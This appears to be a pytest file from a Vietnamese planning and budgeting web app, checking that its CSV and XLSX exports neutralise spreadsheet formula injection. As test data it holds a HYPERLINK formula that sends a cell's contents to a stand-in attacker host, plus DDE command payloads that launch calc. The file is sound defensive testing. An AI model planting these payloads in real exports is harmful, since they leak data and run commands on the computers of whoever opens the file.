"""Issue 21: every CSV and XLSX kehoach writes keeps a text a spreadsheet would run as text —
the contract annex (CSV, XLSX), the open-budget CSV, the import error report, the estimate
workbook — while real numbers stay numbers."""

from __future__ import annotations

import csv
import io
import re
from pathlib import Path

import pytest
from openpyxl import Workbook, load_workbook

from kehoach.api.services import token_create
from kehoach.documents.cells import append_text_row, csv_cell
from kehoach.execution.models import AsRunRecord, Contract, Deliverable
from kehoach.outcomes.models import ImportKind, OutcomeImport
from kehoach.plans.models import Plan
from tests.execution.conftest import approved, proposed, signed, user  # noqa: F401  (fixtures)
from tests.web.conftest import demo, login, plan  # noqa: F401  (fixtures)

SRC = Path(__file__).resolve().parents[2] / "src" / "kehoach"
TITLE = '=HYPERLINK("http://attacker.example/?"&B2,"Bấm để xem")'
OUTLET = "+cmd|' /C calc'!A0"
CONTENT = "=2+3"
DANGEROUS = [TITLE, OUTLET, CONTENT, "-2+3", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]


@pytest.mark.parametrize("text", DANGEROUS)
def test_a_cell_a_spreadsheet_would_run_is_prefixed(text):
    assert csv_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-5", "+84", "-2,5", "1.500.000", "-1.5e3", "12%", -5, 3.5])
def test_numbers_stay_numbers(value):
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", ["Sở Y tế", "", "a=b", None, "- gạch đầu dòng"[2:]])
def test_ordinary_text_is_unchanged(value):
    assert csv_cell(value) == value


def test_an_openpyxl_row_keeps_its_texts_as_text():
    book = Workbook()
    append_text_row(book.active, [TITLE, -5, "x"])
    buffer = io.BytesIO()
    book.save(buffer)
    cell = load_workbook(io.BytesIO(buffer.getvalue())).active["A1"]
    assert cell.data_type == "s" and cell.value == TITLE


_LITERAL = re.compile(r'"(?:[^"]|"")*"')  # a string literal inside a formula

WRITERS = re.compile(r"csv\.writer\(|csv\.DictWriter\(|Workbook\(")
# Every place that creates a CSV writer or a workbook, and what makes its cells safe there.
KNOWN = {
    "documents/cells.py": "the helper itself",
    "api/openbudget.py": "csv_dict on every row",
    "execution/documents.py": "append_text_row (the annex XLSX)",
    "documents/writers/xlsx.py": "strings_to_formulas False, write_string",
    "documents/readers/xlsx.py": "a reader (_Workbook), writes nothing",
}
# A writer made through documents.cells.csv_writer is safe by construction and is not listed;
# such writers are checked below: the contract annex, the import error report, and the error
# files of the statistics and dossier imports (outcomes/services.py, outcomes/dossiers.py).


def test_every_csv_and_workbook_writer_is_one_that_is_checked_here():
    found = {
        str(path.relative_to(SRC))
        for path in SRC.rglob("*.py")
        if WRITERS.search(path.read_text(encoding="utf-8"))
    }
    assert found == set(KNOWN), "a new export: make its cells safe and add it to this test"


def _airings(contract: Contract) -> None:
    reporter, supervisor = login("dai-chogao"), login("bcxb")
    for i, d in enumerate(Deliverable.objects.filter(contract_line__contract=contract)):
        response = reporter.post(
            f"/thuc-hien/hop-dong/{contract.pk}/bao-cao/{d.pk}/",
            {
                "aired_at": f"2016-09-{i + 1:02d}T19:{i:02d}",
                "duration": "-5 phút" if i else "5 phút",
                "title": TITLE,
                "outlet": OUTLET,
            },
        )
        assert response.status_code == 302
        record = AsRunRecord.objects.get(deliverable=d)
        supervisor.post(
            f"/thuc-hien/hop-dong/{contract.pk}/ban-ghi/{record.pk}/xac-nhan/",
            {"decision": "verified"},
        )


@pytest.mark.django_db
def test_the_contract_annex_keeps_a_stations_formula_as_text(signed):  # noqa: F811
    # airings and acceptance only on a signed contract (issue 17)
    contract = Contract.objects.get(plan=signed, contractor__code="TG-DAI-CHO-GAO")
    _airings(contract)
    finance = login("khtc")
    accepted = finance.post(f"/thuc-hien/hop-dong/{contract.pk}/nghiem-thu/", {"on": "2016-12-15"})
    assert accepted.status_code == 302
    url = f"/thuc-hien/hop-dong/{contract.pk}/bang-ke"
    text = finance.get(f"{url}/csv/").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert len(rows) == 1 + 14
    for row in rows[1:]:
        assert row[0].isdigit()  # the airing's number stays a number
        assert row[2] == "'" + OUTLET and row[6] == "'" + TITLE
    assert not any(cell.startswith(("=", "+", "@")) for row in rows for cell in row)

    sheet = load_workbook(io.BytesIO(finance.get(f"{url}/xlsx/").content)).active
    for row in sheet.iter_rows(min_row=2):
        assert row[2].value == OUTLET and row[2].data_type == "s"
        assert row[6].value == TITLE and row[6].data_type == "s"
    assert not any(c.data_type == "f" for row in sheet.iter_rows() for c in row)


@pytest.mark.django_db
def test_the_open_budget_csv_keeps_a_line_content_as_text(proposed):  # noqa: F811
    line = proposed.lines.order_by("id").first()
    type(line).objects.filter(pk=line.pk).update(content=CONTENT)
    _token, raw = token_create(user=user("bcxb"), name="t")
    response = login("bcxb").get(
        f"/api/v1/plans/{proposed.pk}/open-budget.csv", headers={"Authorization": f"Bearer {raw}"}
    )
    rows = list(csv.DictReader(io.StringIO(response.content.decode())))
    contents = {r["content"] for r in rows}
    assert "'" + CONTENT in contents and CONTENT not in contents
    assert all(re.fullmatch(r"-?\d+", r["amount"]) for r in rows)  # amounts stay numbers


@pytest.mark.django_db
def test_the_import_error_report_keeps_an_uploaded_formula_as_text(demo):  # noqa: F811
    from kehoach.accounts.models import Organisation

    job = OutcomeImport.objects.create(
        organisation=Organisation.objects.get(code="TG-STTTT"),
        user=user("bcxb"),
        kind=ImportKind.MONTHLY,
        filename="x.csv",
        errors=[{"line": 3, "kind": "broken", "message": CONTENT}],
    )
    text = login("bcxb").get(f"/ket-qua/nhap/{job.pk}/loi.csv").content.decode("utf-8-sig")
    rows = list(csv.reader(io.StringIO(text)))
    assert rows[1] == ["3", "broken", "'" + CONTENT]


def test_the_import_error_files_keep_an_uploaded_value_as_text():
    from kehoach.outcomes.dossiers import error_csv
    from kehoach.outcomes.services import _error_csv

    statistics = _error_csv([{"line": 3, "column": "x", "value": TITLE, "message": CONTENT}])
    dossiers = error_csv(
        [{"line": 3, "column": "x", "value": TITLE, "reason": CONTENT, "code": OUTLET}]
    )
    for content, expected in (
        (statistics, ["3", "x", "'" + TITLE, "'" + CONTENT]),
        (dossiers, ["3", "x", "'" + TITLE, "'" + CONTENT, "'" + OUTLET]),
    ):
        rows = list(csv.reader(io.StringIO(content.decode("utf-8-sig"))))
        assert rows[1] == expected


@pytest.mark.django_db
def test_the_estimate_workbook_keeps_a_title_and_a_line_as_text(plan: Plan):  # noqa: F811
    Plan.objects.filter(pk=plan.pk).update(title=TITLE)
    line = plan.lines.order_by("id").first()
    type(line).objects.filter(pk=line.pk).update(content=CONTENT)
    response = login("bcxb").get(f"/ke-hoach/{plan.pk}/tai-ve/xlsx/")
    assert response.status_code == 200
    sheet = load_workbook(io.BytesIO(response.content)).active
    formulas = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "f" and c.value]
    texts = [c.value for row in sheet.iter_rows() for c in row if c.data_type == "s"]
    assert CONTENT in texts
    assert not [f for f in formulas if "HYPERLINK" in f or f == CONTENT]
    # the estimate's own arithmetic is still formulas; the amount in words is one too (issue 19),
    # =IF(total=amount,"words","rewrite them"), its texts quoted string literals ("" escaped)
    assert formulas and all(
        re.fullmatch(r"=[A-Z0-9:+*\-(),$ =]+", _LITERAL.sub("0", f)) or "SUM" in f for f in formulas
    )
    assert any(f.startswith("=IF(") for f in formulas)
